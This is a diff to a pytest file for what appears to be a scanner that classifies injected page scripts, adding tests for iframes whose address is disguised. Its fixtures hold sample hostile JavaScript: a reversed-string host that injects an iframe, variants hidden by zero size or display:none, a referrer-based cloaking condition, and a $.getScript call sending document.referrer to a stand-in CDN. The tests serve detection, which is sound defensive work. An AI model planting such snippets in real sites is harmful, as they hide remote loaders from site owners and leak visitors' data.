@@ -260,9 +260,7 @@ SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'
 def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(page), URL, ZONE, exchange, truncated=False)
-    counted = packed(
-        "$.getScript(\\'https://cdn.temaku.example/k.js?\\'+document.referrer)", ["a"]
-    )
+    counted = packed("$.getScript(\\'https://cdn.temaku.example/k.js?\\'+document.referrer)", ["a"])
     assert on_page(counted, page, markup).message == message
     # That it loads a script for everybody proves nothing by itself.
     assert on_page(news("cdn.temaku.example"), page, markup).message == "look"
@@ -292,3 +290,36 @@ def test_a_packed_file_by_what_the_page_has_from_its_maker(sheet: str, message: 
     markup = read(site(sheet), URL, ZONE, exchange, truncated=False)
     verdict = in_file(news("cdn.temaku.example"), sheet, markup=markup)
     assert verdict.message == message
+
+
+BOX = (
+    "(function(){{var h='elpmaxe.kotokorbo.w'.split('').reverse().join(''),e=document.createElement"
+    "('iframe');e.src='//'+h+'/kotak?k=desa';{}document.getElementById('obrolan').appendChild(e)}})()"
+)
+SIZE = "e.width=296;e.height='320px';"
+
+
+@pytest.mark.parametrize(
+    ("given", "message"),
+    [
+        (SIZE, "look"),
+        ("e.height=200;e.frameBorder=0;e.width='250';", "look"),
+        ("", "loader"),
+        ("e.width=1;e.height=1;", "loader"),
+        ("e.width=296;", "loader"),
+        (SIZE + "e.style.display='none';", "loader"),
+        (SIZE + "e.setAttribute('style','position:fixed');", "loader"),
+        (SIZE + "e.className='x';", "loader"),
+        (SIZE + "if(/google/.test(document.referrer))e.src+='&g';", "loader"),
+    ],
+)
+def test_a_frame_in_sight_from_an_address_in_disguise(given: str, message: str) -> None:
+    assert on_page(BOX.format(given), "<div id=obrolan></div>").message == message
+
+
+def test_a_frame_in_sight_beside_a_script_or_of_the_trade() -> None:
+    source = BOX.format(SIZE)
+    more = "var s=document.createElement('script');s.src='//'+h+'/a.js';document.body.append(s);"
+    assert on_page(BOX.format(SIZE + more), "").message == "loader"
+    trade = source.replace("elpmaxe.kotokorbo.w", "elpmaxe.77rocag")
+    assert on_page(trade, "").message == "loader"
